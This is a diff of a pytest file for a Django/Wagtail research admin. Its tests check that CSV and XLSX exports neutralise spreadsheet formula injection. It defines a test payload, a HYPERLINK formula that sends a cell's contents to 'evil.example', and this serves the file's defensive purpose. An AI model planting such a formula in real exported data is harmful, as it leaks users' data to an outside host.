@@ -4,21 +4,20 @@ import csv
 import io
 
 import pytest
+from django.urls import get_resolver
 from openpyxl import load_workbook
-from wagtail_modeladmin.options import ModelAdmin
+from wagtail.admin.views.mixins import SpreadsheetExportMixin
+from wagtail.admin.views.reports.audit_logging import LogEntriesView as SiteHistory
+from wagtail.models import Page, PageLogEntry
+from wagtail_modeladmin.views import IndexView
 
-from research.admin.exports import SafeExportMixin
+from research.admin.records.studies_report import StudiesReportView
 from research.models import ReaderReport, Release
 from tests.factories import schedule
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
 REPORTS = "/admin/research/readerreport/"
 RELEASES = "/admin/research/release/"
-
-
-def kinds_of(cls):
-    """Return every class made of one, with those made of them."""
-    return {found for made in cls.__subclasses__() for found in ({made} | kinds_of(made))}
 
 
 def cells_of(client, address, kind):
@@ -29,13 +28,41 @@ def cells_of(client, address, kind):
     return [cell.value for cell in load_workbook(io.BytesIO(content)).active[2]]
 
 
-def test_every_list_that_exports_does_so_safely():
-    exporting = {admin for admin in kinds_of(ModelAdmin) if admin.list_export}
+def exporting_views(view=SpreadsheetExportMixin):
+    """Return every view that exports, with those made of it."""
+    return {found for made in view.__subclasses__() for found in ({made} | exporting_views(made))}
 
-    unsafe = {admin.__name__ for admin in exporting if not issubclass(admin.index_view_class, SafeExportMixin)}
 
-    assert {"StudyAdmin", "ReaderReportAdmin", "ReleaseAdmin"} <= {admin.__name__ for admin in exporting}
-    assert unsafe == set()
+@pytest.mark.parametrize("value", [FORMULA, "+1", "\t=1", "@SUM(1)"])
+def test_no_view_that_exports_writes_a_formula_ours_or_wagtails(value):
+    get_resolver().url_patterns  # noqa: B018 - loads every view of the admin
+    views = exporting_views()
+
+    assert {IndexView, SiteHistory, StudiesReportView} <= views
+    for view in views:
+        written = [view.preprocess_field_value(view.__new__(view), "title", value, kind) for kind in ("csv", "xlsx")]
+        assert all(text.startswith("'") for text in written), view
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+@pytest.mark.parametrize("report", ["aging-pages", "site-history"])
+def test_a_formula_in_a_title_is_text_in_wagtails_own_reports(client, admin, public_article, kind, report):
+    Page.objects.filter(pk=public_article.pk).update(title="=1+1", draft_title="=1+1")
+    PageLogEntry.objects.filter(page=public_article.pk).update(label="=1+1")
+    client.force_login(admin)
+
+    answer = client.get(f"/admin/reports/{report}/", {"export": kind})
+
+    content = b"".join(answer.streaming_content)
+    rows = (
+        list(csv.reader(io.StringIO(content.decode(), newline="")))
+        if kind == "csv"
+        else [[cell.value for cell in row] for row in load_workbook(io.BytesIO(content)).active]
+    )
+    cells = {cell for row in rows for cell in row}
+    assert "'=1+1" in cells
+    assert "=1+1" not in cells
 
 
 @pytest.mark.django_db
